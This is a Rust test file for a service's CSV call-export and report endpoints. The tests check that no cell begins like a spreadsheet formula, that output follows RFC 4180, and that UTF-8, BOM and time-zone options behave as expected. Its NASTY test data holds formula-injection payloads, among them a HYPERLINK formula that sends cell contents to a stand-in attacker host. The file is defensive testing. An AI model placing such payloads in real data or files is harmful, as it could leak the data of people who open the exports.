//! Whatever a caller, a page or a call system tells: no cell of an export is a formula for a spreadsheet, and the file is
//! CSV by RFC 4180.

mod http_support;

use http_support::{
    Answer, TestApp,
    on::On,
    records::{As, call, keep, moment},
};
use pool_service::domain::call::{Call, facts::Fact};

on_both_stores! {
    no_cell_begins_like_a_formula
    a_report_by_channel_is_as_safe
    excel_is_told_that_it_is_utf_8_where_that_is_wanted
}

async fn export(app: &TestApp, query: &str) -> Answer {
    let token = app.token(&["calls:read"], &[]).await;
    let answer = app.get(&format!("/v1/calls.csv?{query}"), &[("authorization", &format!("Bearer {token}"))]).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    answer
}

const NASTY: [&str; 8] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "a \"quoted\", text\nof two lines",
];

fn nasty() -> Vec<Call> {
    let at = moment("2026-11-21T00:00:00Z");
    let told = |text: &str| Some(Fact { at, value: text.to_owned() });
    NASTY
        .iter()
        .enumerate()
        .map(|(number, text)| {
            let mut call = call(&format!("c{number}"), at).by(text).clicked("gclid", text);
            call.source.campaign = Some((*text).to_owned());
            call.facts.outcome = told(text);
            call.facts.summary = told(text);
            call.facts.notes = told(text);
            call.facts.hang_up_cause = told(text);
            call.facts.destination = told("+81355500100");
            call
        })
        .collect()
}

/// Reads a file as RFC 4180 says.
fn rows(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.expect("a row").iter().map(str::to_owned).collect()).collect()
}

async fn no_cell_begins_like_a_formula(on: On) {
    let app = on.clinic().await;
    for call in nasty() {
        keep(&app.service.store, &call).await;
    }
    let answer = export(&app, "").await;
    let text = answer.text();
    assert!(text.ends_with("\r\n"), "lines end in CRLF");
    let rows = rows(&text);
    assert_eq!(rows.len(), NASTY.len() + 1);
    for cell in rows.iter().flatten() {
        let first = cell.chars().next().unwrap_or('a');
        assert!(!"=+-@\t\r\n＝＋－＠".contains(first), "{cell:?}");
    }
    // They are all there, as texts.
    for text in NASTY {
        let is_there = rows.iter().flatten().any(|cell| cell == text || *cell == format!("'{text}"));
        assert!(is_there, "{text:?}");
    }
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(answer.header("content-disposition"), Some("attachment; filename=\"calls.csv\""));
}

async fn a_report_by_channel_is_as_safe(on: On) {
    let app = on.clinic().await;
    for call in nasty() {
        keep(&app.service.store, &call).await;
    }
    let token = app.token(&["calls:read"], &[]).await;
    let path = "/v1/reports/calls.csv?by=channel&from=2026-11-21";
    let text = app.get(path, &[("authorization", &format!("Bearer {token}"))]).await.text();
    let rows = rows(&text);
    assert_eq!(rows.len(), NASTY.len() + 1, "{text}");
    assert!(rows.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝'])), "{text}");
}

async fn excel_is_told_that_it_is_utf_8_where_that_is_wanted(on: On) {
    let app = on.clinic().await;
    keep(&app.service.store, &call("one", moment("2026-11-21T15:30:00Z")).by("検索広告")).await;
    let plain = export(&app, "fields=began_at_local,zone,began_at,channel").await.bytes;
    let expected = "began_at_local,zone,began_at,channel\r\n\
                    2026-11-22 00:30:00,Asia/Tokyo,2026-11-21T15:30:00.000Z,検索広告\r\n";
    assert_eq!(String::from_utf8(plain).expect("UTF-8"), expected);
    let marked = export(&app, "fields=channel&bom=true").await.bytes;
    assert!(marked.starts_with(b"\xef\xbb\xbfchannel\r\n"));
    let berlin = export(&app, "fields=began_at_local&zone=Europe/Berlin").await.text();
    assert_eq!(berlin, "began_at_local\r\n2026-11-21 16:30:00\r\n");
    // Even without calls there is a head.
    assert_eq!(export(&app, "fields=id&from=2030-01-01").await.text(), "id\r\n");
}
